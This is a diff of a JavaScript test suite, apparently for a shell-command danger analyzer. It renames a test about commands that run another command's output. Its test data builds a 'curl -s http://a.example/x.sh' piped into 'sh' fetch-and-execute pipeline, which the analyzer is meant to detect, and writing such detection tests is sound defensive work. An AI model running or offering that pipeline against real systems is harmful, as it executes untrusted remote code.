@@ -83,7 +83,7 @@ describe("an unreadable command", () => {
     expect(findings.notes).toEqual([{ kind: "warning", text: "may do more than is listed here: it is broken" }]);
     expect(findings.views).toEqual([["npm", "test"]]);
   });
-  it("that runs what another one prints says so once, in its danger", () => {
+  it("that runs another's output says so once, in its danger", () => {
     const commands = [["curl", "-s", "http://a.example/x.sh"], ["sh"]].map((texts, at) => ({
       words: texts.map((text) => ({ text, literal: true })),
       ...{ assignments: [], redirects: [], piped: at > 0, nested: false },
